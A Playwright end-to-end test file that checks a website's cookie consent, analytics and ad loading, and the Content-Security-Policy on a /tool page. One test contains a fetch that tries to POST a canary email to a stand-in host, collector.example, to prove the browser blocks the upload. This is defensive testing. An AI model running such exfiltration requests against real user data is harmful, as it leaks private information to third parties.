// Privacy proofs against the export built WITH test ids (out-tracking/, project "tracking"):
// NEXT_PUBLIC_GA_ID=G-TEST000000, NEXT_PUBLIC_ADSENSE_CLIENT=ca-pub-0000000000000000 (scripts/build-e2e.mjs).
// Google's hosts are intercepted (no internet here): stubs record what gtag.js / adsbygoogle.js were asked.
import { existsSync } from 'node:fs';
import AxeBuilder from '@axe-core/playwright';
import { test, expect, type Page } from '@playwright/test';
import {
  AD_HOST,
  ANALYTICS_HOSTS,
  GTAG_HOST,
  analyticsCookies,
  consentCommands,
  consentRegion,
  dataLayer,
  gtagStub,
  linkTo,
  noteNetwork,
  pageViewPaths,
  plantAnalyticsCookies,
  watchNetwork,
} from './privacy-support';

test.beforeAll(() => {
  if (!existsSync('out-tracking/index.html')) {
    throw new Error('out-tracking/ is missing: run `node scripts/build-e2e.mjs` (or `npm run test:e2e`) first.');
  }
});

const storedConsent = (page: Page) => page.evaluate(() => window.localStorage.getItem('cookieConsent'));
const toAnalytics = (requests: { host: string }[]) => requests.filter((r) => ANALYTICS_HOSTS.includes(r.host));

/** Waits until the gtag stub saw `count` page views, then a little longer to catch any duplicate. */
async function expectPageViews(page: Page, expected: string[]) {
  await expect.poll(async () => pageViewPaths((await gtagStub(page))?.calls ?? []).length).toBeGreaterThanOrEqual(expected.length);
  await page.waitForTimeout(500);
  expect(pageViewPaths((await gtagStub(page))?.calls ?? [])).toEqual(expected);
}

test('1. a fresh visitor sees the banner; nothing is requested from analytics or ad hosts; no _ga cookie', async ({ page, context, baseURL }) => {
  const net = await watchNetwork(context, baseURL!);
  await plantAnalyticsCookies(context, baseURL!);
  for (const path of ['/', '/blog/']) {
    await page.goto(path);
    await expect(consentRegion(page)).toBeVisible();
    await expect(page.getByRole('button', { name: 'Accept' })).toBeVisible();
    await expect(page.getByRole('button', { name: 'Reject' })).toBeVisible();
    await page.waitForLoadState('networkidle');
    await page.waitForTimeout(2500); // longer than the ad slot's 2 s check
  }
  // built with both ids, the banner names both
  await expect(consentRegion(page)).toContainText('With your consent we use Google Analytics cookies to count visits and Google AdSense to show ads');
  expect(await storedConsent(page)).toBeNull();
  noteNetwork('fresh visitor on / and /blog/', net);
  expect(net.thirdParty()).toEqual([]);
  expect(await analyticsCookies(context)).toEqual([]);
  expect((await context.cookies()).map((c) => c.name)).toEqual(['theme']); // only the planted _ga* were removed
  expect(await page.evaluate(() => typeof (window as unknown as { gtag?: unknown }).gtag)).toBe('undefined');

  // the banner itself passes axe (labelled region, named buttons, contrast)
  const axe = await new AxeBuilder({ page }).include('section[aria-labelledby="cookie-banner-title"]').analyze();
  expect(axe.violations.map((v) => v.id)).toEqual([]);
  // keyboard: Tab reaches Accept and Reject after the page content, and focus moves on past them (no trap)
  await page.getByRole('button', { name: 'Reject' }).focus();
  await page.keyboard.press('Tab');
  expect(await page.evaluate(() => document.activeElement?.closest('[aria-labelledby="cookie-banner-title"]') === null)).toBe(true);
});

test('2. Accept loads analytics once with consent granted; one page view per route change; no banner after reload', async ({ page, context, baseURL }) => {
  const net = await watchNetwork(context, baseURL!);
  await page.goto('/');
  await expect(consentRegion(page)).toBeVisible();
  expect(net.thirdParty()).toEqual([]);

  await page.getByRole('button', { name: 'Accept' }).click();
  await expect(consentRegion(page)).toBeHidden();
  expect(await storedConsent(page)).toBe('accepted');
  await expect.poll(async () => (await gtagStub(page))?.loads ?? 0).toBe(1);
  const calls = (await gtagStub(page))!.calls;
  expect(consentCommands(calls).at(-1)).toEqual({ kind: 'update', state: { analytics_storage: 'granted' } });
  expect(calls.filter((c) => c[0] === 'config')).toEqual([
    ['config', 'G-TEST000000', { send_page_view: false, cookie_expires: 2592000, cookie_flags: 'SameSite=None;Secure' }],
  ]);
  await expectPageViews(page, ['/']);

  // client-side route changes (same document: the marker survives), one page view each
  await page.evaluate(() => ((window as unknown as { __sameDocument: boolean }).__sameDocument = true));
  const visited = ['/'];
  for (const path of ['/blog/', '/docs/', '/faq/']) {
    await linkTo(page, path).click();
    await expect(page).toHaveURL(new RegExp(`${path}$`));
    visited.push(path);
    await expectPageViews(page, visited);
  }
  // a client-side route change with a query (history.pushState is synced by the Next router): path + query sent
  await page.evaluate(() => window.history.pushState(null, '', '/faq/?ref=e2e'));
  visited.push('/faq/?ref=e2e');
  await expectPageViews(page, visited);
  expect(await page.evaluate(() => (window as unknown as { __sameDocument?: boolean }).__sameDocument)).toBe(true);
  noteNetwork('accept on /, then /blog/ → /docs/ → /faq/ → /faq/?ref=e2e', net);
  expect(net.toHost(GTAG_HOST)).toHaveLength(1); // gtag.js requested once for the whole visit
  expect(net.toHost(AD_HOST)).toHaveLength(1); // the ad script once (after consent; /blog has a slot)
  expect(await page.evaluate(() => (window as unknown as { __adsStub?: { loads: number } }).__adsStub?.loads)).toBe(1);
  expect(net.thirdParty().every((r) => r.host === GTAG_HOST || r.host === AD_HOST)).toBe(true);

  await page.reload();
  await expect(page.locator('main').first()).toBeVisible();
  await expect(consentRegion(page)).toHaveCount(0);
  await expectPageViews(page, ['/faq/?ref=e2e']); // a full load counts once, not twice
  expect(await storedConsent(page)).toBe('accepted');
});

test('2b. with consent accepted, the blog category filter (an in-page query change) sends path plus query as a page view', async ({ page, context, baseURL }) => {
  await watchNetwork(context, baseURL!);
  await page.goto('/blog/');
  await page.getByRole('button', { name: 'Accept' }).click();
  await expectPageViews(page, ['/blog/']);
  await page.evaluate(() => ((window as unknown as { __sameDocument: boolean }).__sameDocument = true));
  const filter = page.getByRole('group', { name: 'Filter articles by category' }).getByRole('button');
  await filter.nth(1).click();
  await expect(page).toHaveURL(/\?category=/);
  const first = await page.evaluate(() => `${window.location.pathname}${window.location.search}`);
  await expectPageViews(page, ['/blog/', first]);
  await filter.nth(0).click(); // All: the query goes away, and that is a page view too
  await expect(page).toHaveURL(/\/blog\/$/);
  await expectPageViews(page, ['/blog/', first, '/blog/']);
  expect(await page.evaluate(() => (window as unknown as { __sameDocument?: boolean }).__sameDocument)).toBe(true);
});

test('3. Reject (fresh context): stored, banner hidden, pre-set _ga cookies deleted, Consent Mode denied, no analytics request; Cookie settings can change it', async ({ page, context, baseURL }) => {
  const net = await watchNetwork(context, baseURL!);
  await page.goto('/');
  await expect(consentRegion(page)).toBeVisible();
  await plantAnalyticsCookies(context, baseURL!); // as if left by an earlier visit
  expect(await analyticsCookies(context)).toHaveLength(3);

  await page.getByRole('button', { name: 'Reject' }).click();
  await expect(consentRegion(page)).toBeHidden();
  expect(await storedConsent(page)).toBe('rejected');
  expect(await analyticsCookies(context)).toEqual([]);
  expect((await context.cookies()).map((c) => c.name)).toEqual(['theme']);
  const queued = await dataLayer(page);
  expect(consentCommands(queued).at(-1)).toEqual({
    kind: 'update',
    state: expect.objectContaining({ analytics_storage: 'denied', ad_storage: 'denied' }),
  });
  expect(pageViewPaths(queued)).toEqual([]);

  await page.reload();
  await expect(consentRegion(page)).toHaveCount(0);
  await page.waitForLoadState('networkidle');
  await page.waitForTimeout(2500);
  noteNetwork('reject on /, reload', net);
  expect(toAnalytics(net.requests)).toEqual([]);
  expect(net.thirdParty()).toEqual([]);
  expect(await gtagStub(page)).toBeNull();

  // footer "Cookie settings" reopens the banner (focus moves into it); Accept then takes effect without reload
  await page.evaluate(() => ((window as unknown as { __sameDocument: boolean }).__sameDocument = true));
  await page.getByRole('contentinfo').getByRole('button', { name: 'Cookie settings' }).click();
  await expect(consentRegion(page)).toBeVisible();
  await expect(consentRegion(page)).toBeFocused();
  await page.getByRole('button', { name: 'Accept' }).click();
  await expect(consentRegion(page)).toBeHidden();
  await expect(page.getByRole('contentinfo').getByRole('button', { name: 'Cookie settings' })).toBeFocused();
  expect(await storedConsent(page)).toBe('accepted');
  await expect.poll(async () => (await gtagStub(page))?.loads ?? 0).toBe(1);
  expect(consentCommands((await gtagStub(page))!.calls).at(-1)).toEqual({ kind: 'update', state: { analytics_storage: 'granted' } });
  await expectPageViews(page, ['/']);
  expect(await page.evaluate(() => (window as unknown as { __sameDocument?: boolean }).__sameDocument)).toBe(true);
});

test('4. /tool with consent accepted: only same-origin requests, CSP present, the pasted canary never leaves the page', async ({ page, context, baseURL }) => {
  const net = await watchNetwork(context, baseURL!);
  const sockets: string[] = [];
  page.on('websocket', (ws) => sockets.push(ws.url()));
  await page.addInitScript(() => window.localStorage.setItem('cookieConsent', 'accepted'));

  // a content page first: analytics are live there…
  await page.goto('/blog/');
  await expect.poll(async () => (await gtagStub(page))?.loads ?? 0).toBe(1);
  // …then the sidebar's Tool link, a full page load
  net.clear();
  await linkTo(page, '/tool/').click();
  await expect(page).toHaveURL(/\/tool\/$/);
  await page.waitForLoadState('networkidle');

  // in <head>, where the browser enforces it (a CSP meta in <body> is ignored)
  const csp = await page.locator('head > meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(csp).toBeTruthy();
  expect(csp).toMatch(/default-src 'self'/);
  expect(csp).toMatch(/connect-src 'self'/);
  expect(csp).not.toMatch(/https?:|\*/); // no third-party origin allowed anywhere
  expect(await page.evaluate(() => ({
    gtag: typeof (window as unknown as { gtag?: unknown }).gtag,
    dataLayer: typeof (window as unknown as { dataLayer?: unknown }).dataLayer,
    scripts: Array.from(document.scripts).map((s) => s.src).filter((src) => src && !src.startsWith(location.origin)),
  }))).toEqual({ gtag: 'undefined', dataLayer: 'undefined', scripts: [] });

  const canary = {
    email: 'canary.leak.7f3a@canary-mail.com',
    token: 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJjYW5hcnktN2YzYSJ9.Q2FuYXJ5U2lnbmF0dXJlN2YzYQ',
    ip: '10.77.31.203',
  };
  const input = `2024-05-01T10:00:00Z login ok user=${canary.email} from ${canary.ip}\nAuthorization: Bearer ${canary.token}\n`;
  const output = page.getByRole('region', { name: 'Output' });
  await page.getByLabel('Input', { exact: true }).fill(input);
  await page.getByRole('button', { name: 'Mask', exact: true }).click();
  await expect(output).toContainText('[Masked Email 1]');
  await expect(output).not.toContainText(canary.email);
  await page.getByRole('button', { name: 'Replace', exact: true }).click();
  await expect(output).not.toContainText('[Masked Email 1]');
  await expect(output).not.toContainText(canary.email);
  await page.waitForTimeout(1000);
  await page.waitForLoadState('networkidle');

  // the CSP is enforced, not just present: a scripted upload attempt is refused by the browser itself
  const attempt = await page.evaluate(async (value) => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
    const result = await fetch(`https://collector.example/upload?d=${encodeURIComponent(value)}`, { method: 'POST', body: value })
      .then(() => 'sent')
      .catch(() => 'refused');
    await new Promise((resolve) => setTimeout(resolve, 100));
    return { result, violations };
  }, canary.email);
  expect(attempt).toEqual({ result: 'refused', violations: ['connect-src'] });
  await net.settle();

  noteNetwork('/tool (full load from /blog/), Mask, Replace, scripted upload attempt', net);
  expect(net.requests.length).toBeGreaterThan(0); // the /tool document and its own chunks were seen
  expect(net.thirdParty()).toEqual([]);
  expect(sockets).toEqual([]);
  expect(net.requests.every((r) => r.url.startsWith(baseURL!))).toBe(true);
  for (const request of net.requests) {
    const carried = [request.url, JSON.stringify(request.headers), request.body ?? ''].join('\n');
    for (const value of Object.values(canary)) {
      expect(carried, `${request.method} ${request.url} must not carry ${value}`).not.toContain(value);
    }
  }
});

test('4b. on /tool the banner records Accept and nothing third-party loads there, also after leaving and coming Back', async ({ page, context, baseURL }) => {
  const net = await watchNetwork(context, baseURL!);
  await page.goto('/tool/');
  await expect(consentRegion(page)).toBeVisible();
  await page.getByRole('button', { name: 'Accept' }).click();
  await expect(consentRegion(page)).toBeHidden();
  expect(await storedConsent(page)).toBe('accepted');
  await page.waitForTimeout(2500);
  expect(net.thirdParty()).toEqual([]);

  // /tool → Blog is a full page load (links out of /tool are plain <a>): the new document is not under the
  // tool's CSP, so with consent given gtag loads there as on any content page, and nothing is refused by CSP…
  await linkTo(page, '/blog/').click();
  await expect(page).toHaveURL(/\/blog\/$/);
  await expect.poll(async () => (await gtagStub(page))?.loads ?? 0).toBeGreaterThan(0);
  expect(net.refusedByCsp()).toEqual([]);
  const thirdPartyOnBlog = net.thirdParty().length;
  // …and Back to /tool is a clean document without any third-party script, and it requests nothing outside
  await page.goBack();
  await expect(page).toHaveURL(/\/tool\/$/);
  await expect(page.getByLabel('Input', { exact: true })).toBeVisible();
  await expect
    .poll(() => page.evaluate(() => ({
      gtag: typeof (window as unknown as { gtag?: unknown }).gtag,
      thirdPartyScripts: Array.from(document.scripts).filter((s) => s.src && !s.src.startsWith(location.origin)).length,
    })))
    .toEqual({ gtag: 'undefined', thirdPartyScripts: 0 });
  await page.waitForTimeout(1000);
  noteNetwork('/tool Accept, full page load to /blog/, Back', net);
  expect(net.thirdParty().length).toBe(thirdPartyOnBlog);
});

test('5. with the ad host blocked the 2 s check warns and the slot box keeps its size', async ({ page, context, baseURL }) => {
  const net = await watchNetwork(context, baseURL!, { blockAds: true });
  const warnings: string[] = [];
  page.on('console', (message) => {
    if (message.type() === 'warning') warnings.push(message.text());
  });
  await page.addInitScript(() => {
    window.localStorage.setItem('cookieConsent', 'accepted');
    const shifts: number[] = [];
    (window as unknown as { __adShifts: number[] }).__adShifts = shifts;
    new PerformanceObserver((list) => {
      for (const entry of list.getEntries() as unknown as Array<{ value: number; sources?: Array<{ node?: Node | null }> }>) {
        const touchesAd = (entry.sources ?? []).some((s) => s.node instanceof Element && s.node.closest('[data-ad-slot-box]'));
        if (touchesAd) shifts.push(entry.value);
      }
    }).observe({ type: 'layout-shift', buffered: true });
  });

  await page.goto('/blog/');
  const box = page.locator('[data-ad-slot-box]').first();
  await expect(box).toBeVisible();
  const before = await box.boundingBox();
  const heading = await page.getByRole('heading', { level: 1 }).boundingBox();

  await expect.poll(() => warnings.filter((w) => /unavailable or blocked/.test(w)).length, { timeout: 6000 }).toBeGreaterThan(0);
  noteNetwork('/blog/ with consent, ad host blocked', net);
  expect(net.toHost(AD_HOST)).toHaveLength(1); // requested once (and blocked)
  expect(await box.boundingBox()).toEqual(before);
  expect(before!.height).toBeGreaterThanOrEqual(90);
  expect(await page.getByRole('heading', { level: 1 }).boundingBox()).toEqual(heading);
  expect(await page.evaluate(() => (window as unknown as { __adShifts: number[] }).__adShifts)).toEqual([]);
  await expect(page.locator('main').first()).toBeVisible();
  expect(await page.locator('ins.adsbygoogle').count()).toBeGreaterThan(0);
});
